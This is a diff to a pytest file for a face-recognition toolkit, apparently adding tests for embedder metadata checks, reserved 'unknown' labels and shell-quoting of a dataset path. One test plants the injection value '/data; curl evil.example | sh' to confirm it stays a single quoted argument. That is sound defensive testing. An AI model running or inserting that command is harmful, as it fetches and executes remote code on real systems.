@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import logging
+import shlex
 import shutil
 from pathlib import Path
 from typing import Any
@@ -14,7 +15,7 @@ from older import move, unpack
 
 from facekit import runs
 from facekit.base import images, plugins
-from facekit.base.contract import FacekitError
+from facekit.base.contract import FacekitError, replace
 from facekit.commands.balance import balance
 from facekit.commands.evaluate import evaluate
 from facekit.commands.predict import predict
@@ -402,6 +403,8 @@ POISON: list[tuple[dict[str, Any], str]] = [
     ({"embedder": {"name": "sface", "version": "1", "metric": "cosine", "dimensions": 128}}, "does not name its faces"),
     ({"embedder": {"name": "dlib", "version": "1", "metric": "euclidean", "dimensions": 128}}, "other embeddings"),
     ({"embedder": {"name": "dlib", "metric": "euclidean", "dimensions": 1 << 40}}, "dimensions"),
+    ({"embedder": {"name": "dlib", "version": "1", "dimensions": 128}}, "lacks its metric or its dimensions"),
+    ({"embedder": {"name": "dlib", "version": "1", "metric": "cosine"}}, "lacks its metric or its dimensions"),
 ]
 
 
@@ -414,6 +417,50 @@ def test_what_a_stranger_says_of_strangers_is_refused(
         _predict(run, few)
     assert message in str(caught.value)
     assert "\n" not in str(caught.value)
+
+
+@pytest.mark.parametrize("changes", [{"metric": "cosine"}, {"dimensions": 64}], ids=str)
+@pytest.mark.parametrize("of", ["backbone", "embedder"])
+def test_an_embedder_is_what_the_model_says_of_it(run: Path, few: Path, of: str, changes: dict[str, Any]) -> None:
+    info = json.loads((run / "model.json").read_text())
+    (info if of == "backbone" else info["open_set"])[of].update(changes)
+    (run / "model.json").write_text(json.dumps(info))
+    with pytest.raises(FacekitError, match=r"other (vectors|embeddings)|does not fit"):
+        _predict(run, few)
+
+
+def test_a_label_that_reads_like_the_answer_for_strangers_is_refused(
+    even: Path, few: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    name = sorted(path.name for path in even.iterdir() if path.is_dir())[0]
+    faces = Path(shutil.copytree(even, tmp_path / "faces", ignore=shutil.ignore_patterns("*.json*")))
+    (faces / name).rename(faces / "Unknown")
+    options = Train(input=faces, output=tmp_path / "run", backbone="dlib")
+    with pytest.raises(FacekitError, match=r"has a folder 'Unknown', and a model of people .*--labels classes$"):
+        train(options)
+    assert not (tmp_path / "run").exists()
+    train(replace(options, labels="classes"))
+    assert "Unknown" in runs.load(tmp_path / "run").labels
+    _predict(tmp_path / "run", few)
+    assert len(_lines(caplog, "which also says that a face is of nobody")) == 1
+
+
+def test_a_model_that_knows_strangers_has_no_such_label(run: Path) -> None:
+    info = json.loads((run / "model.json").read_text())
+    (run / "model.json").write_text(json.dumps({**info, "labels": ["unknown", *info["labels"][1:]]}))
+    with pytest.raises(FacekitError, match="labels has 'unknown', which is what a model answers of strangers"):
+        runs.load(run)
+
+
+def test_a_path_of_a_stranger_is_no_more_than_a_path_where_it_is_to_be_typed(tmp_path: Path) -> None:
+    old = unpack(tmp_path / "old") / "head"
+    info = json.loads((old / "model.json").read_text())
+    info["dataset"]["root"] = "/data; curl evil.example | sh"
+    (old / "model.json").write_text(json.dumps(info))
+    said = decider.why_none(runs.load(old))
+    assert said is not None
+    words = shlex.split(said.partition("train it again: ")[2])
+    assert words == ["facekit", "train", "/data; curl evil.example | sh", "-o", str(old), "--overwrite"]
 
 
 def test_a_gallery_that_is_gone_is_said(run: Path, few: Path) -> None:
